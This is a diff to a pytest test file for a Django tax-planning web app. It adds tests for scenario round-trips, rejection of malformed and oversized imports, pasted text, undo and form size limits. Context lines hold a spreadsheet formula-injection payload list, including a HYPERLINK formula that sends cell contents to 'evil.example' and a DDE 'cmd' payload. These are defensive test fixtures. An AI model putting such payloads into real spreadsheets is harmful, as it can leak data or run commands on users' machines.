@@ -4,15 +4,22 @@ import csv
 import io
 import json
 import re
+import time
 import zipfile
 from http import HTTPStatus
 from typing import Any
+from urllib.parse import urlencode
 
+import numpy as np
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test.client import MULTIPART_CONTENT
 from openpyxl import load_workbook
 
 from amtweb.exchange.csv_text import csv_of
+from amtweb.exchange.files import FILES as FILES_OF
+from amtweb.exchange.incoming import read_document
+from amtweb.exchange.subjects import Subject
 from amtweb.exchange.tables import Table
 from amtweb.exchange.workbook import LONGEST_TEXT, fitting
 from amtweb.scenarios.bench import result_of
@@ -20,6 +27,7 @@ from amtweb.scenarios.gallery import Example, examples
 from amtweb.scenarios.models import Scenario
 from amtweb.scenarios.working_copy import DOCUMENT
 from calculator.worksheet import worksheets
+from tests.calculator.households import household, structure
 from tests.web.reading import Page
 from tests.web.visitors import Visitor
 
@@ -28,6 +36,8 @@ pytestmark = pytest.mark.django_db
 EXAMPLES = [pytest.param(example, id=example.slug) for example in examples()]
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"see")'
 FULLWIDTH = "\uff1d\uff0b\uff0d\uff20"
+LONGEST_REFUSAL = 0.5
+"""Seconds of a processor."""
 PAYLOADS = (
     *(FORMULA, "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0"),
     *(
@@ -116,6 +126,27 @@ def test_what_is_downloaded_is_the_same_scenario_when_it_is_imported(
     assert other.client.session[DOCUMENT] == example.document
     again = other.saved()
     assert result_of(again.draft).to_dict() == result_of(example.document).to_dict()
+
+
+HOUSEHOLDS = 200
+
+
+def test_two_hundred_random_scenarios_come_back_as_they_went() -> None:
+    random = np.random.default_rng(2026)
+    kinds = [
+        ("single", 2025, ("larger", "standard", "itemized"), False),
+        ("married_filing_jointly", 2025, ("itemized", "larger", "larger"), True),
+        ("married_filing_separately", 2025, ("larger", "larger", "larger"), True),
+        ("head_of_household", 2024, ("larger", "larger", "itemized", "larger"), True),
+    ]
+    for number in range(HOUSEHOLDS):
+        status, first, deductions, events = kinds[number % len(kinds)]
+        document = household(random, structure(status, first, deductions, events=events))
+        document |= {"title": f"Household {number} \u202e税", "notes": 'a\n"b" \\ </script>'}
+        sent = FILES_OF["scenario.json"].make(Subject(document, "/", ""))
+
+        assert read_document(sent) == document
+        assert result_of(read_document(sent)).to_dict() == result_of(document).to_dict()
 
 
 def test_the_bench_and_the_library_lead_to_the_downloads(owner: Visitor) -> None:
@@ -294,6 +325,22 @@ HOSTILE = {
         years=[{"year": 2026}, {"year": 2027}, {"year": 2028, "wages": -1}]
     ),
     "a day that is none": text_of(grants=[{"id": "g", "kind": "iso", "date": "2023-02-30"}]),
+    "more values than any scenario has": text_of(years=[{"year": 2026, "wages": [0] * 60_000}]),
+    "many empty objects": b'{"years": [' + b"{}," * 60_000 + b"{}]}",
+    "a long text": text_of(notes="a" * 20_001),
+    "a long key": text_of(**{"k" * 20_001: 1}),
+    "an exponent that no one can print": text_of().replace(b"200000", b"1e1000000"),
+    "digits of another script": text_of().replace(b"200000", "\u0661".encode()),
+    "underscored digits": text_of().replace(b"200000", b"1_000"),
+    "more than a trillion": text_of(years=[{"year": 2026, "wages": 1e13}]),
+    "fewer shares than none": text_of(
+        grants=[{"id": "g", "kind": "iso", "date": "2023-02-01", "shares": -5, "strike": 1}]
+    ),
+    "a year out of every table": text_of(years=[{"year": 9999}]),
+    "a sale of what is not there": text_of(
+        sales=[{"id": "s", "from": "x", "date": "2026-05-01", "shares": 1, "price": 1}]
+    ),
+    "markup for a key": text_of(**{"<script>x()</script>": 1}),
     "what is not modelled": text_of(household={"state": "CA"}),
 }
 
@@ -305,13 +352,122 @@ def test_a_file_that_cannot_be_used_leaves_everything_as_it_was(
     owner.edit(htmx=True, title="Being worked on")
     before = dict(owner.client.session)
 
+    begun = time.process_time()
     response = brought(owner, content)
+    took = time.process_time() - begun
 
     assert response.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
+    assert took < LONGEST_REFUSAL
     (problems,) = (e for e in Page(response.content).all("section"))
     assert "Nothing was imported" in problems.text
     assert dict(owner.client.session) == before
     assert Scenario.objects.count() == 0
+
+
+def as_text(content: bytes) -> str | None:
+    try:
+        return content.decode()
+    except UnicodeDecodeError:
+        return None
+
+
+PASTED = {name: text for name, content in HOSTILE.items() if (text := as_text(content))}
+
+
+@pytest.mark.parametrize("pasted", PASTED.values(), ids=PASTED)
+def test_pasted_text_that_cannot_be_used_is_refused_and_still_there(
+    owner: Visitor, pasted: str
+) -> None:
+    response = owner.client.post("/import/", {"pasted": pasted})
+
+    assert response.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
+    page = Page(response.content)
+    assert page.find("pasted").text == pasted
+    assert DOCUMENT not in owner.client.session
+
+
+def test_pasted_text_is_the_same_scenario_as_its_file(owner: Visitor) -> None:
+    document = examples()[0].document
+
+    response = owner.client.post("/import/", {"pasted": f"\n{json.dumps(document)}\r\n"})
+
+    assert response.status_code == HTTPStatus.FOUND
+    assert owner.client.session[DOCUMENT] == document
+
+
+def test_a_document_of_a_later_version_is_told_from_a_wrong_one(owner: Visitor) -> None:
+    page = Page(brought(owner, text_of(schema_version=99, quantum=1)).content)
+
+    (problems,) = (e for e in page.all("section"))
+    assert "schema_version" in problems.text
+    assert "the newest that is known here is 1" in problems.text
+
+
+@pytest.mark.parametrize("typed", [{"title": "Being worked on"}, {"years[0].wages": "lots"}])
+def test_an_import_can_be_undone(owner: Visitor, typed: dict[str, str]) -> None:
+    owner.edit(htmx=True, **typed)
+    before = owner.fields()
+
+    assert brought(owner, text_of(title="Brought")).status_code == HTTPStatus.FOUND
+    fields = owner.fields()
+    assert fields["title"] == "Brought"
+    assert "undo" in owner.page().buttons()
+    owner.send(fields, op="undo")
+
+    after = owner.fields()
+    changing = ("csrfmiddlewaretoken", "tab", "sequence", "selected_year")
+    assert {k: v for k, v in after.items() if k not in changing} == {
+        k: v for k, v in before.items() if k not in changing
+    }
+
+
+def test_a_newcomers_import_replaces_nothing_and_offers_no_undo(owner: Visitor) -> None:
+    brought(owner, text_of(title="Brought"))
+
+    assert "undo" not in owner.page().buttons()
+
+
+FORMS = ("/", "/import/", "/analyses/pairing/")
+
+
+@pytest.mark.parametrize("address", FORMS)
+@pytest.mark.parametrize("kind", [MULTIPART_CONTENT, "application/x-www-form-urlencoded"])
+def test_a_form_that_is_too_large_is_told_so_in_words(
+    owner: Visitor, address: str, kind: str
+) -> None:
+    owner.edit(htmx=True, title="Being worked on")
+    before = dict(owner.client.session)
+    fields = {"title": "a" * (2 * 1024 * 1024 + 1), "op": "save"}
+    body: Any = fields if kind == MULTIPART_CONTENT else urlencode(fields)
+
+    response = owner.client.post(address, body, content_type=kind)
+
+    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
+    assert "More than 2 MB were sent" in Page(response.content).find("main").text
+    assert response["Cache-Control"] == "private, no-store"
+    assert dict(owner.client.session) == before
+    assert Scenario.objects.count() == 0
+
+
+def test_an_edit_that_is_too_large_leaves_the_page_and_says_so(owner: Visitor) -> None:
+    response = owner.edit(htmx=True, notes="a" * (2 * 1024 * 1024 + 1))
+
+    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
+    (piece,) = Page(response.content).pieces
+    assert piece.attributes["id"] == "status"
+    assert piece.attributes["hx-swap-oob"] == "true"
+    assert piece.text.startswith("Not kept: ")
+    assert response["HX-Reswap"] == "none"
+    assert '{"code":"413","swap":true}' in owner.client.get("/").content.decode()
+
+
+def test_a_form_of_too_many_fields_is_a_bad_request(owner: Visitor) -> None:
+    body = "&".join(f"a{i}=" for i in range(20_001))
+
+    response = owner.client.post("/", body, content_type="application/x-www-form-urlencoded")
+
+    assert response.status_code == HTTPStatus.BAD_REQUEST
+    assert "Bad request" in response.content.decode()
 
 
 def test_everything_that_is_wrong_with_a_file_is_said_at_once(owner: Visitor) -> None:
@@ -341,7 +497,7 @@ def test_without_a_file_nothing_is_imported(owner: Visitor, data: dict[str, str]
     response = owner.client.post("/import/", data)
 
     assert response.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
-    assert "Choose a file first." in response.content.decode()
+    assert "Choose a file first, or paste its text." in response.content.decode()
     assert DOCUMENT not in owner.client.session
 
 
